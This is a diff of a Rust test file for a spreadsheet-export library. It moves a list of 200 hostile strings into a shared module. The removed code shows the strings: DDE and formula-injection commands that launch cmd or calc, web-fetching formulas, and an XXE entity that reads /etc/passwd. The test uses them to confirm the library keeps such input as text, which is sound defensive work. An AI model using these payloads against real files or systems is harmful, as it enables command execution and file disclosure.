@@ -2,7 +2,7 @@
 
 use std::io::{Cursor, Read};
 
-use crate::common::{assert_golden, imprint, keep};
+use crate::common::{assert_golden, imprint, keep, payloads};
 use calamine::{Data, Reader, Xlsx};
 use chrono::NaiveDate;
 use documents::{Book, Cell, Chart, Column, Entry, Kind, Mark, Sheet, workbook};
@@ -302,56 +302,9 @@ fn no_cell_is_merged() {
     }
 }
 
-/// Two hundred texts that a careless writer would turn into formulas, markup or broken files.
-fn payloads() -> Vec<String> {
-    let starts = ["=", "+", "-", "@", "\t=", "\r=", " =", "'=", "＝", "\"=\"&"];
-    let commands = [
-        "1+1",
-        "cmd|' /C calc'!A0",
-        "HYPERLINK(\"http://example.org\";\"hier\")",
-        "WEBSERVICE(\"http://example.org\")",
-        "SUM(A1:A9)",
-        "IMPORTXML(CONCAT(\"http://example.org\",A1),\"//a\")",
-        "DDE(\"cmd\";\"/C calc\";\"a\")",
-        "2+5+cmd|'/C notepad'!A0",
-        "A1",
-        "_xlfn.LAMBDA(x,x)(1)",
-        "INDIRECT(\"A1\")",
-        "rundll32|'URL.dll,OpenURL calc.exe'!A",
-    ];
-    let markup = [
-        "<f>1+1</f>",
-        "</t></si><si><t>x",
-        "</v></c></row></sheetData>",
-        "<![CDATA[x]]>",
-        "]]>",
-        "<!-- x -->",
-        "<?xml version=\"1.0\"?>",
-        "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>",
-        "&b;",
-        "&amp;lt;",
-        "&#x3d;1+1",
-        "_x000D_",
-        "_x003D_1+1",
-        "\u{1}\u{2}\u{b}\u{1f}",
-        "\u{fffe}\u{ffff}",
-        "\u{200b}=1+1",
-        "\u{202e}=1+1",
-        "{=1+1}",
-        "[Book1.xls]Sheet1!A1",
-        "'Alle'!A1",
-    ];
-    let made =
-        starts.iter().flat_map(|start| commands.iter().map(move |command| format!("{start}{command}")));
-    let marked = markup.iter().flat_map(|text| {
-        [(*text).to_owned(), format!("={text}"), format!("a{text}z"), format!("{text}\n{text}")]
-    });
-    made.chain(marked).collect()
-}
-
 #[test]
 fn two_hundred_payloads_stay_text_in_every_place() {
-    let nasty = payloads();
+    let nasty = payloads::payloads();
     assert_eq!(nasty.len(), 200, "as many as promised");
     let sheets = nasty.iter().map(|text| Sheet {
         tab: text.clone(),
